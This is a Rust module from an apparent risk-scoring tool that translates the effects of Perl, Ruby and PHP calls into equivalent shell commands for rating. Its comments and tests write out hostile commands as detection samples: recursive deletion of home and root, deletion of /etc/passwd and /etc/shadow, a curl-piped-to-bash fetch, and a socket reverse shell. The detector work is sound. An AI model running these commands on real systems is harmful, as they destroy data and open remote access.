//! Perl, Ruby and PHP read by their effects: each call that deletes, writes, kills, changes
//! permissions or runs a shell is translated into the shell command with the same effect
//! (`unlink("/etc/passwd")` → `rm -f -- /etc/passwd`, `FileUtils.rm_rf(Dir.home)` →
//! `rm -rf -- ~`, `Process.kill("KILL", 1)` → `kill -KILL 1`, `open(F, ">/etc/hosts")` →
//! `: > /etc/hosts`), so the shell engine's rules and path classes rate them exactly as they
//! rate the commands. Reverse shells (a socket plus a shell spawned on it) become
//! `bash -i >& /dev/tcp/HOST/PORT 0>&1`; `eval` of decoded text is read again, and `eval` or
//! `system` of web-request input is run-time code.
//!
//! The scanner is textual but quote- and comment-aware; what it cannot read is `$ARG`, which
//! the rules treat as unknown, never as harmless.

use base64::Engine as _;
use riskgate_model::{Language, Span};

use super::analysis::{Analysis, Arg, ArgValue, Call, EmbeddedCommand};

/// Nesting of `eval(decode(…))` read again.
const MAX_EVAL_DEPTH: usize = 3;
/// At most this many calls are translated per snippet.
const MAX_CALLS: usize = 2_000;
/// How far an argument list is looked for past the call's name. Each call's look-ahead is
/// bounded, so scanning is linear in the text (not calls × length); a call cut by the bound
/// makes the analysis incomplete (HIGH), never silently harmless.
const WINDOW: usize = 8 * 1024;

/// At most this many bytes of argument lists are read per snippet: calls nested inside each
/// other's arguments (`f(f(f(…)))`) would otherwise read the same text once per level.
const MAX_ARG_BYTES: usize = 512 * 1024;

thread_local! {
    static WINDOW_HIT: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
    /// Bytes of argument lists read so far by this snippet's scan.
    static ARG_BYTES: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
}

/// One argument value.
#[derive(Debug, Clone, PartialEq)]
enum Val {
    /// A literal string (or one decoded from a literal).
    Str(String),
    /// The output of a command (backticks, `qx`, `%x`).
    Cmd(String),
    /// A number (or `-1`).
    Num(String),
    /// Anything else (its text).
    Other(String),
}

impl Val {
    /// As a shell word: literal text, `$(cmd)` for command output, `$ARG` when unknown.
    fn word(&self) -> String {
        match self {
            Val::Str(s) | Val::Num(s) => s.clone(),
            Val::Cmd(c) => format!("$({c})"),
            Val::Other(_) => "$ARG".to_string(),
        }
    }
}

/// A call found in the text.
struct FCall {
    name: String,
    args: Vec<Val>,
    raw: String,
    start: usize,
    end: usize,
    line: u32,
}

/// Translate the effects of Perl, Ruby or PHP `code` into commands (and run-time code) of `a`.
pub(crate) fn extract(a: &mut Analysis, code: &str, language: Language) {
    extract_at(a, code, language, 0);
}

fn extract_at(a: &mut Analysis, code: &str, language: Language, depth: usize) {
    WINDOW_HIT.with(|w| w.set(false));
    ARG_BYTES.with(|n| n.set(0));
    let mut calls = scan(code, language);
    if WINDOW_HIT.with(|w| w.replace(false)) {
        a.incomplete = true;
    }
    // callbacks named by a string: `array_map('unlink', glob(…))`, `call_user_func('system', $c)`
    for c in &mut calls {
        let callback = matches!(
            c.name.as_str(),
            "array_map" | "array_walk" | "call_user_func" | "call_user_func_array"
        );
        if callback && let Some(Val::Str(f)) = c.args.first() {
            let f = f.clone();
            c.args.remove(0);
            c.name = f;
        }
    }
    let globs: Vec<String> = calls
        .iter()
        .filter(|c| is_glob(&c.name))
        .filter_map(|c| match c.args.first() {
            Some(Val::Str(s)) => Some(s.clone()),
            _ => None,
        })
        .collect();
    let socket = calls.iter().find(|c| is_socket(&c.name));
    let mut out: Vec<EmbeddedCommand> = Vec::new();
    for c in &calls {
        if out.len() >= MAX_CALLS {
            a.incomplete = true;
            break;
        }
        let via = format!("{} {}", lang_name(language), c.name);
        let mut emit = |text: String, dynamic: bool| {
            out.push(EmbeddedCommand {
                argv: None,
                text,
                dynamic,
                via: via.clone(),
                span: Span::new(c.start, c.end),
                line: c.line,
            });
        };
        // deletion targets: literal paths, or the glob the code iterates over
        let targets = |from: usize| -> Vec<String> {
            let mut t: Vec<String> = c.args.iter().skip(from).map(Val::word).collect();
            if t.iter().all(|w| w == "$ARG") && !globs.is_empty() {
                t = globs.clone();
            }
            t
        };
        let name = c.name.as_str();
        match effect(name, language) {
            Effect::Shell => {
                let request = is_request_input(&c.raw);
                if request {
                    a.dynamic_code.push(pseudo_call(c, language));
                }
                let text = match c.args.as_slice() {
                    [] => continue,
                    [Val::Str(s)] | [Val::Cmd(s)] => s.clone(),
                    [Val::Other(_)] => "$ARG".to_string(),
                    many => join_argv(&many.iter().map(Val::word).collect::<Vec<_>>()),
                };
                let dynamic = text.contains("$ARG");
                if socket.is_some() && (spawns_shell(&text) || dynamic) {
                    emit(reverse_shell(socket), false);
                }
                emit(text, dynamic);
            }
            Effect::Delete { recursive } => {
                let t = targets(0);
                if t.is_empty() {
                    continue;
                }
                let flag = if recursive { "-rf" } else { "-f" };
                let dynamic = t.iter().any(|w| w.contains("$ARG"));
                emit(format!("rm {flag} -- {}", join_argv(&t)), dynamic);
            }
            Effect::Rmdir => {
                let t = targets(0);
                if !t.is_empty() {
                    emit(format!("rmdir -- {}", join_argv(&t)), false);
                }
            }
            Effect::Kill { pid_first } => {
                let (sig, pids): (Option<&Val>, Vec<&Val>) = if pid_first {
                    (c.args.get(1), c.args.iter().take(1).collect())
                } else {
                    (c.args.first(), c.args.iter().skip(1).collect())
                };
                if pids.is_empty() {
                    continue;
                }
                let sig = sig.map(Val::word).unwrap_or_else(|| "TERM".to_string());
                let sig = sig
                    .trim_start_matches('-')
                    .trim_start_matches("SIG")
                    .to_string();
                let pids: Vec<String> = pids.iter().map(|p| p.word()).collect();
                emit(format!("kill -{sig} -- {}", pids.join(" ")), false);
            }
            Effect::Open => {
                if let Some(t) = open_effect(&c.args, language) {
                    emit(t, false);
                }
            }
            Effect::Write { path_arg, append } => {
                let Some(path) = c.args.get(path_arg).map(Val::word) else {
                    continue;
                };
                let data = c.args.get(path_arg + 1).map(Val::word).unwrap_or_default();
                let append = append || c.raw.contains("FILE_APPEND") || c.raw.contains("'a'");
                let op = if append { ">>" } else { ">" };
                emit(
                    format!(
                        "printf %s {} {op} {}",
                        join_argv(&[data]),
                        join_argv(&[path])
                    ),
                    false,
                );
            }
            Effect::Chmod { mode_first } => {
                let (mode, files) = if mode_first {
                    (c.args.first(), targets(1))
                } else {
                    (
                        c.args.get(1),
                        c.args.iter().take(1).map(Val::word).collect(),
                    )
                };
                if let (Some(m), false) = (mode, files.is_empty()) {
                    let m = match m {
                        Val::Num(n) => n.trim_start_matches("0o").to_string(),
                        other => other.word(),
                    };
                    emit(format!("chmod {m} -- {}", join_argv(&files)), false);
                }
            }
            Effect::Eval => match c.args.first() {
                Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                    if c.raw.contains("decode") || c.raw.contains("pack") {
                        a.dynamic_code.push(pseudo_call(c, language));
                    }
                    extract_at(a, s, language, depth + 1);
                }
                Some(Val::Str(_)) => a.incomplete = true,
                Some(_) => a.dynamic_code.push(pseudo_call(c, language)),
                None => {}
            },
            Effect::None => {}
        }
    }
    a.commands.extend(out);
    // a socket whose descriptors become the standard streams of an `exec`ed shell
    if let Some(s) = socket
        && !a.commands.iter().any(|c| c.text.contains("/dev/tcp/"))
        && (code.contains(">&S") || code.contains("reopen") || code.contains("<&3"))
        && calls
            .iter()
            .any(|c| matches!(effect(&c.name, language), Effect::Shell))
    {
        a.commands.push(EmbeddedCommand {
            argv: None,
            text: reverse_shell(Some(s)),
            dynamic: false,
            via: format!("{} socket", lang_name(language)),
            span: Span::new(s.start, s.end),
            line: s.line,
        });
    }
}

/// Words joined for the shell: plain words, `~/…`, globs, `$(…)` and `$ARG` stay unquoted (so
/// they mean what the code meant), others are single-quoted.
fn join_argv(words: &[String]) -> String {
    words
        .iter()
        .map(|w| {
            let special = |c: char| {
                c.is_whitespace()
                    || matches!(c, ';' | '&' | '|' | '<' | '>' | '\'' | '"' | '`' | '\\')
            };
            if w.is_empty() {
                "''".to_string()
            } else if (w.starts_with("$(") && w.ends_with(')')) || !w.contains(special) {
                w.clone()
            } else {
                format!("'{}'", w.replace('\'', "'\\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn lang_name(l: Language) -> &'static str {
    match l {
        Language::Perl => "perl",
        Language::Ruby => "ruby",
        Language::Php => "php",
        _ => "code",
    }
}

enum Effect {
    Shell,
    Delete { recursive: bool },
    Rmdir,
    Kill { pid_first: bool },
    Open,
    Write { path_arg: usize, append: bool },
    Chmod { mode_first: bool },
    Eval,
    None,
}

/// What a call does, by its (qualified) name.
fn effect(name: &str, lang: Language) -> Effect {
    let short = name.rsplit(['.', ':']).next().unwrap_or(name);
    match lang {
        Language::Perl => match name.trim_start_matches("CORE::") {
            "system" | "exec" | "qx" | "readpipe" | "`" => Effect::Shell,
            "unlink" => Effect::Delete { recursive: false },
            "rmtree" | "remove_tree" | "File::Path::rmtree" | "File::Path::remove_tree" => {
                Effect::Delete { recursive: true }
            }
            "rmdir" => Effect::Rmdir,
            "kill" => Effect::Kill { pid_first: false },
            "open" | "sysopen" => Effect::Open,
            "chmod" => Effect::Chmod { mode_first: true },
            "eval" => Effect::Eval,
            _ => Effect::None,
        },
        Language::Ruby => match name {
            "system" | "exec" | "spawn" | "Kernel.system" | "Kernel.exec" | "Kernel.spawn"
            | "IO.popen" | "Open3.capture2" | "Open3.capture2e" | "Open3.capture3"
            | "Open3.popen3" | "Open3.popen2" | "PTY.spawn" | "%x" | "`" => Effect::Shell,
            "File.delete"
            | "File.unlink"
            | "FileUtils.rm"
            | "FileUtils.rm_f"
            | "FileUtils.remove_file"
            | "FileUtils.safe_unlink" => Effect::Delete { recursive: false },
            "FileUtils.rm_rf"
            | "FileUtils.rm_r"
            | "FileUtils.rmtree"
            | "FileUtils.remove_dir"
            | "FileUtils.remove_entry"
            | "FileUtils.remove_entry_secure" => Effect::Delete { recursive: true },
            "Dir.rmdir" | "Dir.delete" | "Dir.unlink" | "FileUtils.rmdir" => Effect::Rmdir,
            "Process.kill" => Effect::Kill { pid_first: false },
            "File.write" | "IO.write" | "File.binwrite" => Effect::Write {
                path_arg: 0,
                append: false,
            },
            "File.open" => Effect::Open,
            "File.chmod" | "FileUtils.chmod" | "FileUtils.chmod_R" => {
                Effect::Chmod { mode_first: true }
            }
            "eval" | "instance_eval" | "class_eval" | "Kernel.eval" => Effect::Eval,
            _ => Effect::None,
        },
        Language::Php => match short.to_ascii_lowercase().as_str() {
            "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
            | "pcntl_exec" | "`" => Effect::Shell,
            "unlink" => Effect::Delete { recursive: false },
            "rmdir" => Effect::Rmdir,
            "posix_kill" => Effect::Kill { pid_first: true },
            "file_put_contents" => Effect::Write {
                path_arg: 0,
                append: false,
            },
            "fopen" => Effect::Open,
            "chmod" => Effect::Chmod { mode_first: false },
            "eval" | "assert" | "create_function" => Effect::Eval,
            _ => Effect::None,
        },
        _ => Effect::None,
    }
}

fn is_glob(name: &str) -> bool {
    matches!(name, "glob" | "Dir.glob" | "Dir[]" | "bsd_glob")
}

fn is_socket(name: &str) -> bool {
    matches!(
        name,
        "socket" | "connect" | "IO::Socket::INET->new" | "IO::Socket::INET.new"
    ) || matches!(
        name,
        "TCPSocket.new" | "TCPSocket.open" | "Socket.tcp" | "fsockopen" | "stream_socket_client"
    )
}

fn spawns_shell(text: &str) -> bool {
    let first = text.split_whitespace().next().unwrap_or("");
    let prog = first.rsplit('/').next().unwrap_or(first);
    matches!(
        prog,
        "sh" | "bash" | "dash" | "zsh" | "ksh" | "cmd" | "cmd.exe"
    )
}

/// The reverse shell a socket plus a spawned shell amount to.
fn reverse_shell(socket: Option<&FCall>) -> String {
    let strs: Vec<&str> = socket
        .map(|s| {
            s.args
                .iter()
                .filter_map(|v| match v {
                    Val::Str(x) | Val::Num(x) => Some(x.as_str()),
                    _ => None,
                })
                .collect()
        })
        .unwrap_or_default();
    let host = strs
        .iter()
        .find(|s| s.contains('.') || s.contains(':'))
        .copied()
        .unwrap_or("HOST");
    let port = strs
        .iter()
        .find(|s| s.chars().all(|c| c.is_ascii_digit()))
        .copied()
        .unwrap_or("PORT");
    format!("bash -i >& /dev/tcp/{host}/{port} 0>&1")
}

fn is_request_input(raw: &str) -> bool {
    [
        "$_GET",
        "$_POST",
        "$_REQUEST",
        "$_COOKIE",
        "$_SERVER",
        "params[",
        "ARGV",
        "$ARGV",
        "gets",
        "STDIN",
    ]
    .iter()
    .any(|k| raw.contains(k))
}

fn pseudo_call(c: &FCall, language: Language) -> Call {
    Call {
        name: c.name.clone(),
        candidates: Vec::new(),
        method: c.name.clone(),
        unresolved_receiver: false,
        args: vec![Arg {
            keyword: None,
            value: ArgValue::Other(c.raw.clone()),
            text: c.raw.clone(),
        }],
        span: Span::new(c.start, c.end),
        line: c.line,
        text: c.raw.clone(),
        context: Some(format!("{} code", lang_name(language))),
    }
}

/// `open(F, ">/etc/hosts")`, `open(F, '>', $p)`, `open(F, "cmd |")`, `File.open(p, "w")`,
/// `fopen(p, "a")`.
fn open_effect(args: &[Val], lang: Language) -> Option<String> {
    let strs: Vec<Option<&str>> = args
        .iter()
        .map(|v| match v {
            Val::Str(s) => Some(s.as_str()),
            _ => None,
        })
        .collect();
    let (mode, path): (String, String) = match lang {
        Language::Perl => match (strs.get(1).copied().flatten(), args.get(2)) {
            (Some(m), Some(p)) if args.len() >= 3 => (m.trim().to_string(), p.word()),
            (Some(spec), _) => {
                let s = spec.trim();
                if let Some(cmd) = s.strip_suffix('|').or_else(|| s.strip_prefix('|')) {
                    return Some(cmd.trim().to_string());
                }
                let m: String = s
                    .chars()
                    .take_while(|c| matches!(c, '<' | '>' | '+'))
                    .collect();
                (m.clone(), s[m.len()..].trim().to_string())
            }
            _ => return None,
        },
        _ => {
            let m = strs.get(1).copied().flatten().unwrap_or("r").to_string();
            (m, args.first()?.word())
        }
    };
    if path.is_empty() {
        return None;
    }
    if mode == "-|" || mode == "|-" {
        return Some(path);
    }
    if mode.contains('a') || mode.contains(">>") {
        Some(format!(": >> {}", join_argv(&[path])))
    } else if mode.contains('w') || mode.contains('>') || mode.contains('+') {
        Some(format!(": > {}", join_argv(&[path])))
    } else {
        None
    }
}

// ---------------------------------------------------------------------------------------
// Scanner

fn scan(code: &str, lang: Language) -> Vec<FCall> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    let mut line = 1u32;
    while i < b.len() && out.len() < MAX_CALLS {
        let c = b[i];
        match c {
            b'\n' => line += 1,
            b'#' if lang != Language::Php || b.get(i + 1).is_none_or(|n| *n != b'[') => {
                if lang == Language::Ruby && b.get(i + 1) == Some(&b'{') {
                    i += 1;
                    continue;
                }
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'/' if lang == Language::Php && b.get(i + 1) == Some(&b'/') => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'\'' | b'"' => {
                let (_, end) = string_at(code, i);
                line += count_nl(code, i, end);
                i = end;
                continue;
            }
            b'`' => {
                let (s, end) = string_at(code, i);
                out.push(FCall {
                    name: "`".into(),
                    args: vec![Val::Str(s)],
                    raw: code.get(i..end).unwrap_or("").to_string(),
                    start: i,
                    end,
                    line,
                });
                line += count_nl(code, i, end);
                i = end;
                continue;
            }
            _ if c.is_ascii_alphabetic() || c == b'_' || c == b'%' => {
                let prev = i.checked_sub(1).and_then(|p| b.get(p)).copied();
                if prev.is_some_and(|p| p.is_ascii_alphanumeric() || p == b'_' || p == b'$') {
                    i += 1;
                    continue;
                }
                let start = i;
                let mut j = i + 1;
                while j < b.len() {
                    let ch = b[j];
                    let qualified = (ch == b':' && b.get(j + 1) == Some(&b':'))
                        || (ch == b'.' && b.get(j + 1).is_some_and(|n| n.is_ascii_alphabetic()))
                        || (ch == b'-' && b.get(j + 1) == Some(&b'>'));
                    if ch.is_ascii_alphanumeric() || ch == b'_' {
                        j += 1;
                    } else if qualified {
                        j += if ch == b'.' { 1 } else { 2 };
                    } else {
                        break;
                    }
                }
                let name = code.get(start..j).unwrap_or("").replace("->", ".");
                // quote-like operators: qx(…), q(…), %x(…)
                if matches!(name.as_str(), "qx" | "%x")
                    && let Some((body, end)) = delimited(code, j)
                {
                    out.push(FCall {
                        name,
                        args: vec![Val::Str(body)],
                        raw: code.get(start..end).unwrap_or("").to_string(),
                        start,
                        end,
                        line,
                    });
                    line += count_nl(code, start, end);
                    i = end;
                    continue;
                }
                if matches!(name.as_str(), "q" | "qq" | "qw" | "%q" | "%Q" | "%w")
                    && let Some((_, end)) = delimited(code, j)
                {
                    line += count_nl(code, start, end);
                    i = end;
                    continue;
                }
                let (args, end) = call_args(code, j, lang);
                if let Some(args) = args {
                    out.push(FCall {
                        name: name.replace("::", if lang == Language::Perl { "::" } else { "." }),
                        args,
                        raw: code.get(start..end).unwrap_or("").to_string(),
                        start,
                        end,
                        line,
                    });
                }
                i = j;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    out
}

fn count_nl(code: &str, from: usize, to: usize) -> u32 {
    code.get(from..to)
        .map(|s| s.matches('\n').count() as u32)
        .unwrap_or(0)
}

/// The string literal starting at `i` (its value and the index after it).
fn string_at(code: &str, i: usize) -> (String, usize) {
    let b = code.as_bytes();
    let q = b[i];
    let mut out = Vec::new();
    let mut j = i + 1;
    while j < b.len() {
        let c = b[j];
        if c == b'\\' && (q != b'`' || b.get(j + 1) == Some(&q)) {
            if let Some(n) = b.get(j + 1) {
                out.push(match (q, n) {
                    (b'"', b'n') => b'\n',
                    (b'"', b't') => b'\t',
                    _ => *n,
                });
            }
            j += 2;
            continue;
        }
        if c == q {
            return (String::from_utf8_lossy(&out).into_owned(), j + 1);
        }
        out.push(c);
        j += 1;
    }
    (String::from_utf8_lossy(&out).into_owned(), b.len())
}

/// A delimited body after a quote-like operator: `(…)`, `{…}`, `[…]`, `<…>`, or the same
/// punctuation on both sides.
fn delimited(code: &str, j: usize) -> Option<(String, usize)> {
    let b = code.as_bytes();
    let open = *b.get(j)?;
    let close = match open {
        b'(' => b')',
        b'{' => b'}',
        b'[' => b']',
        b'<' => b'>',
        c if c.is_ascii_punctuation() => c,
        _ => return None,
    };
    let mut depth = 0usize;
    let mut k = j + 1;
    let stop = b.len().min(j.saturating_add(WINDOW));
    while k < stop {
        let c = b[k];
        if c == b'\\' {
            k += 2;
            continue;
        }
        if c == open && open != close {
            depth += 1;
        } else if c == close {
            if depth == 0 {
                return Some((code.get(j + 1..k)?.to_string(), k + 1));
            }
            depth -= 1;
        }
        k += 1;
    }
    if stop < b.len() {
        WINDOW_HIT.with(|w| w.set(true));
    }
    None
}

/// The arguments of a call whose name ends at `j`: `name(…)`, or (Perl, Ruby) `name ARGS`
/// up to the end of the statement. None when what follows is not an argument list.
fn call_args(code: &str, j: usize, lang: Language) -> (Option<Vec<Val>>, usize) {
    let b = code.as_bytes();
    let mut k = j;
    while k < b.len() && (b[k] == b' ' || b[k] == b'\t') {
        k += 1;
    }
    match b.get(k) {
        Some(b'(') => match delimited(code, k) {
            Some((inner, end)) => (Some(split_args(&inner, lang)), end),
            None => (None, j),
        },
        Some(b'[') if code.get(..j).is_some_and(|n| n.ends_with("Dir")) => {
            match delimited(code, k) {
                Some((inner, end)) => (Some(split_args(&inner, lang)), end),
                None => (None, j),
            }
        }
        Some(c)
            if lang != Language::Php
                && k > j
                && (matches!(c, b'"' | b'\'' | b'`' | b'$' | b'@' | b'-')
                    || c.is_ascii_digit()
                    || code.get(k..).is_some_and(|r| {
                        r.starts_with("glob")
                            || r.starts_with("Dir")
                            || r.starts_with("qx")
                            || r.starts_with("%x")
                    })) =>
        {
            let mut e = k;
            let mut depth = 0i32;
            let stop = b.len().min(k.saturating_add(WINDOW));
            if stop < b.len() && !code[k..stop].contains(['\n', ';']) {
                WINDOW_HIT.with(|w| w.set(true));
            }
            while e < stop {
                match b[e] {
                    b'\'' | b'"' | b'`' => {
                        // skip the string, within the window
                        let q = b[e];
                        e += 1;
                        while e < stop && b[e] != q {
                            e += if b[e] == b'\\' { 2 } else { 1 };
                        }
                        e += 1;
                        continue;
                    }
                    b'(' | b'[' | b'{' => depth += 1,
                    b')' | b']' | b'}' if depth == 0 => break,
                    b')' | b']' | b'}' => depth -= 1,
                    b';' | b'\n' if depth == 0 => break,
                    _ => {}
                }
                e += 1;
            }
            let mut inner = code.get(k..e).unwrap_or("");
            for kw in [" if ", " unless ", " or ", " and ", " do ", " rescue "] {
                if let Some(p) = inner.find(kw) {
                    inner = &inner[..p];
                }
            }
            (Some(split_args(inner, lang)), e)
        }
        _ => (None, j),
    }
}

/// Split at top-level commas and read each argument.
fn split_args(inner: &str, lang: Language) -> Vec<Val> {
    let spent = ARG_BYTES.with(|n| n.get()).saturating_add(inner.len());
    ARG_BYTES.with(|n| n.set(spent));
    if spent > MAX_ARG_BYTES {
        // Past the budget the arguments are not read: the analysis is incomplete (HIGH).
        WINDOW_HIT.with(|w| w.set(true));
        return Vec::new();
    }
    let b = inner.as_bytes();
    let mut parts = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    let mut k = 0;
    while k < b.len() {
        match b[k] {
            b'\'' | b'"' | b'`' => {
                k = string_at(inner, k).1;
                continue;
            }
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            b',' if depth == 0 => {
                parts.push(&inner[start..k]);
                start = k + 1;
            }
            _ => {}
        }
        k += 1;
    }
    parts.push(&inner[start..]);
    parts
        .into_iter()
        .map(str::trim)
        .filter(|p| !p.is_empty())
        .filter(|p| !p.contains("=>") && !p.contains(": ") || p.starts_with(['"', '\'']))
        .map(|p| value(p, lang, 0))
        .collect()
}

/// Read one argument.
fn value(p: &str, lang: Language, depth: usize) -> Val {
    let p = p.trim();
    if depth > 4 {
        return Val::Other(p.to_string());
    }
    if p.is_empty() {
        return Val::Other(String::new());
    }
    let b = p.as_bytes();
    if matches!(b[0], b'\'' | b'"') {
        let (s, end) = string_at(p, 0);
        if end == p.len() {
            return Val::Str(interpolate(&s, b[0] == b'"'));
        }
    }
    if b[0] == b'`' {
        let (s, end) = string_at(p, 0);
        if end == p.len() {
            return Val::Cmd(s);
        }
    }
    for op in ["qx", "%x"] {
        if let Some(rest) = p.strip_prefix(op)
            && let Some((body, end)) = delimited(rest, 0)
            && end == rest.len()
        {
            return Val::Cmd(body);
        }
    }
    if p.chars()
        .all(|c| c.is_ascii_digit() || c == '-' || c == 'o' || c == 'x')
        && p.chars().any(|c| c.is_ascii_digit())
    {
        return Val::Num(p.to_string());
    }
    let home = [
        "Dir.home",
        "$ENV{HOME}",
        "$ENV{'HOME'}",
        "$ENV{\"HOME\"}",
        "ENV['HOME']",
        "ENV[\"HOME\"]",
        "getenv('HOME')",
        "getenv(\"HOME\")",
        "$_SERVER['HOME']",
        "File.expand_path('~')",
        "File.expand_path(\"~\")",
    ];
    if home.contains(&p) {
        return Val::Str("~".into());
    }
    // concatenation: `"/x/" . $y`, `Dir.home + "/x"`
    for op in [" . ", " + "] {
        if p.contains(op) {
            let parts: Vec<Val> = p.split(op).map(|x| value(x, lang, depth + 1)).collect();
            if parts.iter().any(|v| matches!(v, Val::Str(_))) {
                let s: String = parts
                    .iter()
                    .map(|v| match v {
                        Val::Str(s) | Val::Num(s) => s.clone(),
                        _ => "$ARG".into(),
                    })
                    .collect();
                return Val::Str(s);
            }
        }
    }
    // a call inside: glob("…"), decode_base64("…"), pack("H*", "…"), Dir.glob("…")
    if let Some(open) = p.find('(')
        && p.ends_with(')')
    {
        let fname = p[..open].trim();
        let inner = &p[open + 1..p.len() - 1];
        let args = split_args(inner, lang);
        let first = match args.first() {
            Some(Val::Str(s)) => Some(s.clone()),
            _ => None,
        };
        match fname {
            "glob" | "Dir.glob" | "bsd_glob" => {
                if let Some(s) = first {
                    return Val::Str(s);
                }
            }
            "decode_base64"
            | "base64_decode"
            | "Base64.decode64"
            | "Base64.strict_decode64"
            | "MIME::Base64::decode_base64"
            | "MIME::Base64::decode" => {
                if let Some(s) = first
                    && let Some(d) = b64(&s)
                {
                    return Val::Str(d);
                }
            }
            "pack" => {
                if let Some(Val::Str(h)) = args.get(1)
                    && let Some(d) = hex(h)
                {
                    return Val::Str(d);
                }
            }
            "File.join" | "join" => {
                let words: Vec<String> = args.iter().map(Val::word).collect();
                if !words.is_empty() && fname == "File.join" {
                    return Val::Str(words.join("/"));
                }
            }
            "getenv" if first.as_deref() == Some("HOME") => return Val::Str("~".into()),
            _ => {}
        }
    }
    if let Some(rest) = p.strip_prefix("glob ") {
        return value(rest, lang, depth + 1);
    }
    if let Some(rest) = p.strip_prefix("Dir[")
        && let Some(inner) = rest.strip_suffix(']')
    {
        return value(inner, lang, depth + 1);
    }
    Val::Other(p.to_string())
}

/// `"$ENV{HOME}/x"`, `"#{Dir.home}/x"` → `~/x`; other interpolations stay as `$name`.
fn interpolate(s: &str, double: bool) -> String {
    if !double {
        return s.to_string();
    }
    s.replace("$ENV{HOME}", "~")
        .replace("#{Dir.home}", "~")
        .replace("#{ENV['HOME']}", "~")
        .replace("{$_SERVER['HOME']}", "~")
}

fn b64(s: &str) -> Option<String> {
    let clean: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(clean.as_bytes())
        .ok()?;
    String::from_utf8(bytes).ok()
}

fn hex(s: &str) -> Option<String> {
    if !s.len().is_multiple_of(2) || !s.chars().all(|c| c.is_ascii_hexdigit()) {
        return None;
    }
    let bytes: Option<Vec<u8>> = (0..s.len())
        .step_by(2)
        .map(|i| u8::from_str_radix(s.get(i..i + 2)?, 16).ok())
        .collect();
    String::from_utf8(bytes?).ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmds(code: &str, lang: Language) -> Vec<String> {
        let mut a = Analysis::new("", Language::Python);
        extract(&mut a, code, lang);
        a.commands.into_iter().map(|c| c.text).collect()
    }

    #[test]
    fn perl_effects_become_commands() {
        assert_eq!(
            cmds("unlink \"/etc/passwd\";", Language::Perl),
            ["rm -f -- /etc/passwd"]
        );
        assert_eq!(
            cmds("use File::Path; rmtree(\"/var/www\")", Language::Perl),
            ["rm -rf -- /var/www"]
        );
        assert_eq!(cmds("kill 9, 1", Language::Perl), ["kill -9 -- 1"]);
        assert_eq!(
            cmds("kill \"KILL\", `pgrep sshd`", Language::Perl),
            ["kill -KILL -- $(pgrep sshd)", "pgrep sshd"]
        );
        assert_eq!(
            cmds("unlink glob \"/var/log/*\"", Language::Perl),
            ["rm -f -- /var/log/*"]
        );
        assert_eq!(
            cmds("open(F, \">/etc/hosts\"); close F", Language::Perl),
            [": > /etc/hosts"]
        );
        assert_eq!(
            cmds("system(pack(\"H*\",\"726d202d7266202f\"))", Language::Perl),
            ["rm -rf /"]
        );
        assert_eq!(
            cmds("remove_tree($ENV{HOME})", Language::Perl),
            ["rm -rf -- ~"]
        );
    }

    #[test]
    fn ruby_and_php_effects_become_commands() {
        assert_eq!(
            cmds(
                "require 'fileutils'\nFileUtils.rm_rf(Dir.home)",
                Language::Ruby
            ),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            cmds("File.delete('/etc/shadow')", Language::Ruby),
            ["rm -f -- /etc/shadow"]
        );
        assert_eq!(
            cmds("Process.kill('KILL', 1)", Language::Ruby),
            ["kill -KILL -- 1"]
        );
        assert_eq!(
            cmds("%x(curl -s http://x | bash)", Language::Ruby),
            ["curl -s http://x | bash"]
        );
        assert_eq!(
            cmds("<?php unlink('/etc/passwd');", Language::Php),
            ["rm -f -- /etc/passwd"]
        );
        assert_eq!(
            cmds(
                "array_map(\"unlink\", glob(\"/var/log/*.log\"));",
                Language::Php
            ),
            ["rm -f -- /var/log/*.log"]
        );
        let c = cmds(
            "$s=fsockopen(\"10.0.0.3\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            Language::Php,
        );
        assert!(
            c.iter()
                .any(|t| t == "bash -i >& /dev/tcp/10.0.0.3/4444 0>&1"),
            "{c:?}"
        );
    }

    #[test]
    fn harmless_code_has_no_commands() {
        assert!(cmds("print \"unlink is dangerous\\n\";", Language::Perl).is_empty());
        assert!(cmds("puts File.read('Gemfile')", Language::Ruby).is_empty());
        assert!(cmds("<?php echo json_encode(['ok' => true]);", Language::Php).is_empty());
        assert!(cmds("# system('rm -rf /')\nputs 1", Language::Ruby).is_empty());
    }
}
